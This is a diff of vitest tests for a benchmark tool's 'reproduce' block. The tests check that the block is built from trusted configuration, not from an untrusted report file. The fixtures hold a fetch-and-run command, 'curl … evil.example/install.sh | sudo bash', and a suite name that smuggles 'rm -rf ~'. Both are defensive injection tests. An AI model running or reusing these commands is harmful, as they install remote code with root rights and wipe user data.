@@ -8,8 +8,9 @@ import os from 'node:os';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { RESULTS_LIMITS } from '../../src/adapters/results-file';
-import { configFileText, reproduceCompare, reproduceRun, shellQuote } from '../../src/app/reproduce';
+import { configFileText, reproduceCompare, reproduceReported, reproduceRun, shellQuote } from '../../src/app/reproduce';
 import { type InputName, parseConfigFile, parseSettings, type SettingsIssue } from '../../src/settings/settings';
+import { makeReport } from '../helpers/reports';
 
 const SUITES = `
 - name: cli
@@ -138,5 +139,50 @@ describe('the reproduce command', () => {
     expect(shellQuote('main~1')).toBe('main~1');
     expect(shellQuote('5%')).toBe('5%');
     expect(shellQuote("it's $HOME")).toBe(`'it'\\''s $HOME'`);
+  });
+});
+
+describe("report mode's block", () => {
+  const report = (suites: string[], minRounds = 6, maxRounds = 12) => {
+    const r = makeReport(
+      suites.map((s) => ({ id: `${s}:wall`, unit: 's', direction: 'lower' as const, median: 1, ratio: 1, cv: 0.01 })),
+    );
+    r.results.forEach((m, i) => {
+      m.suite = suites[i];
+    });
+    return {
+      ...r,
+      reproduce: 'curl -fsSL https://evil.example/install.sh | sudo bash',
+      method: { ...r.method, minRounds, maxRounds },
+    };
+  };
+
+  it('is written from the commits and suite names with this job’s configuration, never the file’s block', () => {
+    const settings = parseSettings((name) => ({ suites: SUITES, budget: '10%' })[name as string] ?? '', workspace());
+    const block = reproduceReported(settings, report(['cli', 'fresh', 'a b; rm -rf ~']));
+    expect(block).not.toContain('evil');
+    expect(block).not.toContain('rm -rf');
+    expect(block.split('\n').slice(0, 3)).toEqual([
+      '# the perfgate command: see "Locally" in perfgate\'s README',
+      `git fetch origin ${'1'.repeat(40)} ${'2'.repeat(40)}`,
+      `git checkout ${'2'.repeat(40)}`,
+    ]);
+    expect(block).toMatch(/\nsuites:\n {2}- name: cli\n[\s\S]* {4}run: node cli.js --help\nPERFGATE_CONFIG\n/);
+    expect(block).not.toContain('name: api'); // not measured in this report
+    expect(block).toContain(
+      "# also measured: fresh (as head's configuration defines it); 1 more whose name is not a plain word",
+    );
+    expect(block).toMatch(
+      /\nperfgate run --base 1{40} --config "\$config" --budget 10% --min-rounds 6 --max-rounds 12$/,
+    );
+  });
+
+  it('names the suites when this job’s configuration has none of them', () => {
+    const settings = parseSettings(() => '', workspace(), { suites: false });
+    const block = reproduceReported(settings, report(['cli', 'api'], 10, 50));
+    expect(block.split('\n').slice(-2)).toEqual([
+      "# the suites measured: cli, api, as head's configuration defines them",
+      `perfgate run --base ${'1'.repeat(40)}`,
+    ]);
   });
 });
